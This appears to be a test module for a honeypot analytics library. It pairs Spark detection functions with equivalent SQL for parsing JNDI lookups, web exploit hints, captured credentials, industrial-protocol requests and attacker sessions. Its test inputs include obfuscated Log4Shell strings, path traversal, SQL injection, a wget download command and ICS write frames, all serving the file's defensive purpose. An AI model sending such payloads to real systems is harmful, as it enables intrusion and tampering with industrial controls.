"""Queries that put the column functions of sensors to every event, each beside SQL that works the result out another way."""

from __future__ import annotations

from pyspark.sql import Column
from pyspark.sql import functions as F

from hivelens.functions import ics, network, ports, redact, scoring, text, web
from hivelens.operators import correlate
from hivelens.plans.registry import T, query
from hivelens.sources import families
from hivelens.sources.telemetry import address_name, events_of, user_address

_KEY = b"sixteen byte key"
_PADS = ["".join(f"\\x{b ^ x:02X}" for b in _KEY.ljust(64, b"\0")) for x in (0x5C, 0x36)]


def _turn(values: list[str | None]) -> Column:
    """The values by turns of event_id; % stands for user_id."""
    chosen = F.element_at(F.array(*map(F.lit, values)), (F.col("event_id") % len(values) + 1).cast("int"))
    return F.replace(chosen, F.lit("%"), F.col("user_id").cast("string"))


def _turn_sql(values: list[str | None]) -> str:
    said = ", ".join("NULL" if v is None else "'" + v.replace("'", "''") + "'" for v in values)
    return f"replace(([{said}])[CAST(event_id % {len(values)} AS INTEGER) + 1], '%', CAST(user_id AS VARCHAR))"


def _turns(name: str, given: list[str | None], wanted: list[str | None], make) -> None:
    """A query event_id, found: make of the given texts, against the wanted ones."""
    assert len(given) == len(wanted)

    def run(spark, folder):
        return events_of(spark, folder).select("event_id", make(_turn(given)).alias("found"))

    run.__name__ = name
    query(f"WITH {T} SELECT event_id, {_turn_sql(wanted)} AS found FROM t")(run)


_comma = lambda a: F.array_join(a, ",")
_turns("d6_addresses", ["10.0.7.1", " 10.0.7.2 ", "::ffff:10.0.7.3", "2001:DB8:0:0::A", "256.1.1.1", "host%", None], ["10.0.7.1", "10.0.7.2", "10.0.7.3", "2001:db8::a", None, None, None], network.canonical_ip)
_turns(
    "f12_jndi_urls", ["${jndi:ldap://h%.example/a}", "x ${${::-j}ndi:${lower:RMI}://h%.example:99/b} y", "${jndi:dns://[::1]/%}", "${lower:j}", "no look-up %", None],
    ["ldap|h%.example", "rmi|h%.example", "dns|[::1]", "", "", None], lambda c: F.when(c.isNotNull(), _comma(F.transform(text.jndi_payloads(c), lambda x: F.concat_ws("|", x["scheme"], x["host"])))),
)
_turns(
    "p20_exploit_hints", ["/.env?%", "/a/../etc/passwd%", "/shell.php?x=%", "/?q=1 union  select %", "/wp-login.php", "/index%.html", "/api/v2/exec/%", "eval (%)"],
    ["0", "4,23", "9", "25", "14", "", "16", "17"], lambda c: _comma(F.transform(web.exploit_hints(c, F.lit("agent")), lambda x: x.cast("string"))),
)
_turns("p20_scanner_agents", ["sqlmap/1.% (x)", "Mozilla Nikto/2", "zgrab", "curl/%", "xnmapx", None], ["sqlmap", "nikto", "zgrab", None, None, None], web.scanner_agent)
_turns(
    "p22_body_credentials", ["user=a%&pass=b", "login=x+y&pwd=%26%3D&secret=z", '{"username": "u%", "password": "p"}', '{"data": {"email": "e%", "pass": "q"}}', "a=b", ""],
    ["a%:b", None, "u%:p", "e%:q", "", ""], lambda c: F.when(F.col("event_id") % 6 != 1, _comma(F.transform(web.body_credentials(c, F.lit("POST")), lambda x: F.concat_ws(":", x["username"], x["password"])))),
)
_turns("p24_firewall_cves", ["tcp_test %", " TCP_TEST", "<host>%</host><key>webvpn", "<host>%", "%", None], ["CVE-2018-0101", "CVE-2018-0101", "CVE-2018-0101", None, None, None], web.firewall_cve)
_turns("p27_attack_techniques", ["sqli", "XSS", "lfi", "index", "cmd_exec", None], ["T1190", "T1189", "T1190", None, "T1190", None], web.attack_technique)
_turns("p30_mail_verbs", ["ehlo h%", " MAIL FROM:<a%>", "quit", "", None], ["EHLO", "MAIL", "QUIT", "", None], web.mail_verb)
_turns(
    "p26_ntlm_targets", ["00" * 44 + "0900080061006200630064" + "00" * 5, "00" * 44 + "0100020041000900040078007900", "00" * 48, "00" * 44 + "0900", "zz%", None], ["abcd", "xy", None, None, None, None], ports.ntlm_target_name,
)
_turns(
    "f17_recon_sessions", ["uname -a", "whoami;wget http://h%/x", "cat /proc/cpuinfo", "chmod +x a%", "frobnicate %", "ls"], ["true", "false", "true", "false", "false", "true"], lambda c: text.recon_only(F.array(c, F.lit("id"))).cast("string"),
)
_turns("p11_technique_ids", ["T1110,T1110.001,T11", "T1059", "x%,T1059,T1059", ""], ["T1110,T1110.001", "T1059", "T1059", ""], lambda c: _comma(text.technique_list(F.split(c, ","))))
_turns("d7_process_lines", ["/tmp/abcdef%;ls", "/tmp/ab", "sh /dev/shm/x-y.z%", "/var/tmp/12345 a"], ["/tmp/<tmpfile>;ls\nend", "/tmp/ab\nend", "sh /dev/shm/<tmpfile>\nend", "/var/tmp/<tmpfile> a\nend"], lambda c: text.process_line(F.array(c, F.lit("end"))))
_turns("d21_redacted_text", ["at HIVE%.example", "Node-a and node-a.", "my-node-a 10.9.8.7", "10.9.8.70"], ["at HIVE%.example", "[redacted] and [redacted].", "my-node-a [redacted]", "10.9.8.70"], lambda c: redact.redact_text(c, ["node-a"], ["10.9.8.7"]))


@query(f"WITH {T} SELECT event_id, left(sha256(CAST('{_PADS[0]}' AS BLOB) || unhex(sha256(CAST('{_PADS[1]}' AS BLOB) || encode(lower('Sensor-' || user_id || '.Example'))))), 8) AS pseudonym FROM t")
def d20_pseudonyms(spark, folder):
    host = F.concat(F.lit("Sensor-"), F.col("user_id").cast("string"), F.lit(".Example"))
    return events_of(spark, folder).select("event_id", redact.pseudonym(host, _KEY).alias("pseudonym"))


@query(
    f"""WITH {T} SELECT event_id, CASE WHEN user_id < 250 OR event_id % 4 = 0 THEN least(CAST(10 + event_id % 90 AS INTEGER), 25) ELSE CAST(10 + event_id % 90 AS INTEGER) END AS score FROM t"""
)
def d19_capped_scores(spark, folder):
    labels = F.when(F.col("event_id") % 4 == 0, F.array(F.lit("x"), F.lit("scanner:y"))).when(F.col("event_id") % 4 == 1, F.array(F.lit("scan:z")))
    score = (10 + F.col("event_id") % 90).cast("int")
    return events_of(spark, folder).select("event_id", redact.capped_score(score, F.col("src_ip"), labels, ["198.51.0.0/24"]).alias("score"))


_REPUTATION = ["Known Attacker", "bad reputation, spam", "mass scanner", None]


@query(f"""WITH {T} SELECT event_id, greatest(10, least(100, CAST(event_id % 97 AS INTEGER) + ([25, 12, 0, 0])[CAST(event_id % 4 AS INTEGER) + 1] + CASE WHEN user_id % 5 = 0 THEN 30 ELSE 0 END)) AS score FROM t""")
def d9_address_scores(spark, folder):
    return events_of(spark, folder).select("event_id", scoring.ip_score((F.col("event_id") % 97).cast("int"), _turn(_REPUTATION), F.col("user_id") % 5 == 0).alias("score"))


@query(
    f"""WITH {T}, s AS (SELECT event_id, (['Sentrypeer', 'ConPot', 'Heralding', 'Cowrie'])[CAST(event_id % 4 AS INTEGER) + 1] AS kind, user_id % 2 = 0 AS abroad, user_id % 7 = 0 AS wrote, user_id % 5 = 0 AS snmp, user_id % 3 = 0 AS scanner,
 (['interaction', 'handshake', 'connect', NULL])[CAST(dst_port % 4 AS INTEGER) + 1] AS tier FROM t)
 SELECT event_id, split_part(d, ' ', 1) = 'yes' AS accept, split_part(d, ' ', 2) AS reason FROM (SELECT event_id, CASE
 WHEN kind = 'Sentrypeer' THEN CASE WHEN abroad THEN 'yes sip-fraud' ELSE 'no sip-no-evidence' END WHEN kind = 'Cowrie' THEN 'yes stub-accept' WHEN wrote THEN 'yes ics-write' WHEN snmp THEN 'no ics-snmp-only'
 WHEN tier IS NULL THEN 'yes stub-accept' WHEN tier = 'interaction' THEN CASE WHEN scanner THEN 'no ics-research-scanner' ELSE 'no ics-interaction' END WHEN tier = 'handshake' THEN 'no ics-handshake-only' ELSE 'no ics-connect-only' END AS d FROM s)"""
)
def n1_evidence(spark, folder):
    tier = F.element_at(F.array(*map(F.lit, ["interaction", "handshake", "connect", None])), (F.col("dst_port") % 4 + 1).cast("int"))
    every = lambda n: F.col("user_id") % n == 0
    found = F.struct(every(7).alias("write"), every(5).alias("snmp_only"), tier.alias("industrial_tier"), every(3).alias("research_scanner"))
    return events_of(spark, folder).select("event_id", scoring.evidence(_turn(["Sentrypeer", "ConPot", "Heralding", "Cowrie"]), every(2), found).alias("d")).select("event_id", "d.accept", "d.reason")


#: Requests in hex or as text, with what they are: protocol, payload, tier, function (missing: not compared).
REQUESTS = [
    ("modbus", "000700000006010300000002", "interaction", "function 3 unit 1"), ("modbus", "000700000006010600010002", "write", "function 6 unit 1"), ("modbus", "0007000000020106", "invalid", None),
    ("modbus", "474554202f20485454502f312e31", "invalid", None), ("s7comm", "0300001611e00000000100c1020100c2020102c0010a", "handshake", "connection request"), ("s7comm", "0300", "invalid", None),
    ("iec104", "680407000000", "handshake", None), ("iec104", "680e000000002d010600010001000001", "write", None), ("iec104", "680e0000000064010600010000000014", "interaction", None),
    ("enip", "65000000" + "00" * 20, "handshake", None), ("enip", "63000000" + "00" * 20, "interaction", None), ("bacnet", "810a001101040005010c0c023fffff194b", "interaction", None),
    ("bacnet", "810a001101040005010f0c023fffff194b", "write", None), ("opcua", "48454c4608000000", "handshake", None), ("hartip", "0100000000010008", "handshake", None), ("hartip", "010003000001000c02000600", "write", None),
    ("ge-srtp", "00" * 56, "handshake", "zero bytes"), ("ge-srtp", "02" + "00" * 41 + "23" + "00" * 13, "write", "service 0x23"), ("kamstrup", "803f100d", "interaction", "meter frame"), ("kamstrup-management", "!sc 1", "write", "!SC"),
    ("kamstrup-management", "ls", "invalid", None), ("guardian_ast", "I20100", "interaction", "I20100"), ("guardian_ast", "S60201", "write", "S60201"), ("modbus", None, "connect", ""), ("ftp", "00", None, None),
]
_REQUEST_SQL = ", ".join(f"({i}, '{p}', {repr(t) if t else 'NULL'}, {repr(f) if f is not None else 'NULL'})" for i, (p, _, t, f) in enumerate(REQUESTS))


def _requests(spark, folder):
    at = (F.col("event_id") % len(REQUESTS) + 1).cast("int")
    pick = lambda k: F.element_at(F.array(*[F.lit(r[k]) for r in REQUESTS]), at)
    rows = events_of(spark, folder).select("event_id", "src_ip", pick(0).alias("protocol"), pick(1).alias("payload"), F.element_at(F.array(*[F.lit(r[3] is not None) for r in REQUESTS]), at).alias("told"))
    return rows.withColumn("finding", ics.ics_finding(F.col("protocol"), F.col("payload")))


@query(f"WITH {T}, r(k, protocol, tier, function) AS (VALUES {_REQUEST_SQL}) SELECT event_id, protocol, tier, function FROM t JOIN r ON event_id % {len(REQUESTS)} = k")
def i4_industrial_requests(spark, folder):
    return _requests(spark, folder).select("event_id", "protocol", "finding.tier", F.when(F.col("told"), F.col("finding.function")).alias("function"))


_RANK = "list_position(['connect', 'invalid', 'handshake', 'interaction', 'write'], tier)"


@query(
    f"""WITH {T}, r(k, protocol, tier, function) AS (VALUES {_REQUEST_SQL}), f AS (SELECT src_ip, protocol, {_RANK} AS rank FROM t JOIN r ON event_id % {len(REQUESTS)} = k),
 s AS (SELECT src_ip, max(rank) AS best, coalesce(list_sort(list(DISTINCT protocol) FILTER (rank >= 3)), []) AS valid, max(rank) FILTER (protocol <> 'ftp') AS top FROM f GROUP BY 1),
 m AS (SELECT *, list_sort(list_distinct(list_transform(valid, lambda p: CASE WHEN starts_with(p, 'kamstrup') THEN 'kamstrup' ELSE p END))) AS names FROM s)
 SELECT src_ip, array_to_string(valid, ',') AS valid, best = 5 AS wrote, array_to_string(list_concat(list_concat(CASE WHEN top IS NULL THEN [] ELSE ['targeting:ics', 'ics'] END, list_transform(names, lambda n: 'ics:' || n)),
 list_filter([CASE WHEN len(names) > 1 THEN 'ics:multi-protocol' END, CASE WHEN top >= 4 THEN 'ics:protocol-interaction' END, CASE WHEN best = 5 THEN 'ics:write-control' END], lambda x: x IS NOT NULL)), ',') AS labels FROM m"""
)
def i15_industrial_summaries(spark, folder):
    rows = _requests(spark, folder).select("src_ip", "protocol", "finding.tier", "finding.function")
    labels = ics.ics_labels(F.col("valid_protocols"), F.col("industrial_tier"), F.col("write"))
    return ics.summarise(rows, ("src_ip",)).select("src_ip", _comma("valid_protocols").alias("valid"), F.col("write").alias("wrote"), _comma(labels).alias("labels"))


_KINDS = ["ConPot", "Mailoney", "H0neytr4p", "Galah", "Fatt", "RDPHoneypot"]


@query(
    f"""WITH {T}, e AS (SELECT *, ({_KINDS!r})[CAST(event_id % 6 AS INTEGER) + 1] AS family, event_id // 6 % 3 AS turn, date_trunc('millisecond', ts) AS seen, CASE WHEN event_id % 6 IN (0, 1, 5) THEN 's' || user_id WHEN event_id % 6 IN (2, 3) THEN 'e' || event_id END AS id FROM t),
 g AS (SELECT *, CASE WHEN epoch_ms(seen) - epoch_ms(lag(seen) OVER (PARTITION BY family, src_ip, sensor ORDER BY seen, event_id)) > 300000 THEN 1 ELSE 0 END AS new FROM e),
 k AS (SELECT *, coalesce(id, 'b' || sum(new) OVER (PARTITION BY family, src_ip, sensor ORDER BY seen, event_id)) AS key FROM g)
 SELECT family, src_ip, sensor, min(seen) AS first_seen, count(*) AS events,
 CASE family WHEN 'ConPot' THEN CASE WHEN bool_or(turn = 1) THEN 'write' WHEN bool_or(turn = 0) THEN 'interaction' ELSE 'connect' END END AS tier,
 CASE family WHEN 'ConPot' THEN count(DISTINCT turn) FILTER (turn < 2) WHEN 'Mailoney' THEN 2 * count(*) ELSE 0 END AS requests,
 CASE WHEN family = 'Mailoney' THEN nullif(sum(turn), 0) END AS mail_bytes, CASE WHEN family = 'H0neytr4p' THEN 'http://h' || min(turn) || '.example/a' ELSE '' END AS request_urls,
 CASE WHEN family = 'H0neytr4p' THEN 'c' || min(turn) || '.example' ELSE '' END AS lookups, CASE WHEN family = 'Galah' THEN 'u' || min(turn) || ':p' ELSE '' END AS credentials,
 CASE WHEN family = 'Fatt' THEN min_by('j' || event_id, seen) END AS ja3, CASE WHEN family = 'RDPHoneypot' THEN count(*) ELSE 0 END AS captures FROM k GROUP BY family, src_ip, sensor, key"""
)
def c7_family_sessions(spark, folder):
    turn = F.floor(F.col("event_id") / 6) % 3
    of = lambda name, value: F.when(F.col("family") == name, value)
    with_turn = lambda a, b: F.concat(F.lit(a), turn.cast("string"), F.lit(b))
    session = F.concat(F.lit("s"), F.col("user_id").cast("string"))
    fields = {
        "@timestamp": F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSS'Z'"), "type": F.col("family"), "src_ip": user_address(F.col("user_id")), "t-pot_hostname": F.col("sensor"), "event_id": F.col("event_id"), "session_id": session, "session": session, "id": session,
        "data_type": of("ConPot", F.lit("modbus")), "request": of("ConPot", F.element_at(F.array(F.lit(REQUESTS[0][1]), F.lit(REQUESTS[1][1]), F.lit(None)), (turn + 1).cast("int"))),
        "commands": of("Mailoney", F.array(F.lit("ehlo x"), F.lit("quit"))), "data": of("Mailoney", F.repeat(F.lit("é"), turn.cast("int"))),
        "http_host": of("H0neytr4p", with_turn("h", ".example:81")), "request_uri": of("H0neytr4p", F.lit("/a")), "referer": of("H0neytr4p", with_turn("${jndi:ldap://c", ".example/x}")),
        "method": of("Galah", F.lit("POST")), "body": of("Galah", with_turn("user=u", "&pwd=p")), "fatt_tls": of("Fatt", F.struct(F.concat(F.lit("j"), F.col("event_id").cast("string")).alias("ja3"))), "nt_response": of("RDPHoneypot", F.lit("00")),
    }
    rows = events_of(spark, folder).withColumn("family", _turn(_KINDS)).select(F.to_json(F.struct(*[v.alias(k) for k, v in fields.items()])).alias("value"))
    out = correlate.correlate(families.addressed(families.normalise(rows.select(F.expr("try_parse_json(value)").alias("doc")))))
    return out.select(
        "family", address_name(F.col("src_ip")).alias("src_ip"), "sensor", F.col("first_seen").cast("timestamp_ntz").alias("first_seen"), "events", F.col("ics.tier").alias("tier"), F.size("requests").cast("long").alias("requests"), "mail_bytes",
        F.replace(_comma("request_urls"), F.lit(":81"), F.lit("")).alias("request_urls"), _comma(F.transform("jndi", lambda x: x["host"])).alias("lookups"),
        _comma(F.transform("credentials", lambda x: F.concat_ws(":", x["username"], x["password"]))).alias("credentials"), "ja3", F.size("ntlm").cast("long").alias("captures"),
    )
